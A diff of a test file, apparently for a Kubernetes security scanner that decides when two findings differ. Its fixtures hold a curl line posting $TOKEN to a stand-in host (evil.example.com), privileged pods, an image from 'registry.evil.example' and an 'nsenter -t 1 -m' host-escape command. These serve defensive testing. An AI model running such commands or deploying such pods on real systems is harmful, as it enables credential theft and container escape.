@@ -114,6 +114,18 @@ describe('is another finding', () => {
       pair(quiet, run('curl -d "$TOKEN" https://$TO/in', [{ name: 'TO', value: 'a.example.com' }])),
       pair(quiet, run('curl -d "$TOKEN" https://$TO/in', [{ name: 'TO', value: 'evil.example.com' }])),
     ],
+    [
+      'pod-privileged',
+      'another image that has it',
+      pair(web(), web({ container: { securityContext: { privileged: true } } })),
+      pair(web(), web({ container: { securityContext: { privileged: true }, image: 'registry.evil.example/x:1' } })),
+    ],
+    [
+      'pod-privileged',
+      'another command that has it',
+      pair(web(), web({ container: { securityContext: { privileged: true } } })),
+      pair(web(), web({ container: { securityContext: { privileged: true }, command: ['nsenter', '-t', '1', '-m'] } })),
+    ],
     ['rbac-subject-broad', 'another role', pair(kept, [kept, broad('view')]), pair(kept, [kept, broad('edit')])],
     [
       'rbac-subject-broad',
